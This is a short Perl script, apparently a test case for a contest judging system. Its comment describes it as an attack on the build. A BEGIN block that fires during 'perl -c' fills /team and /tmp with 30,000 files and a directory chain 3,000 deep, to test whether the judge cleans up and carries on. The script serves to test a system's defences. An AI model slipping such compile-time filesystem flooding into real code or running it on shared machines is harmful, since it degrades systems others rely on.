# Attack on the build: a BEGIN block at `perl -c` leaves 30,000 files and a folder chain 3,000 deep in
# the team folder (and the same in /tmp), so that arena's judging of the build's leftovers is slow, deep
# or long-winded. The build must fail with a short reason, everything be removed, the table go on.
use strict;
use warnings;

BEGIN {
    if (!-e '/team/deal.txt') {
        for my $base ('/team', '/tmp') {
            for my $i (1 .. 30000) {
                open my $f, '>', "$base/f$i" or last;
                close $f;
            }
            chdir $base or die;
            for my $i (1 .. 3000) {
                mkdir 'd' or last;
                chdir 'd' or last;
            }
        }
        chdir '/team';
    }
}

open my $answer, '>', 'outputf.txt' or die "outputf.txt: $!";
print $answer "0\n";
close $answer;
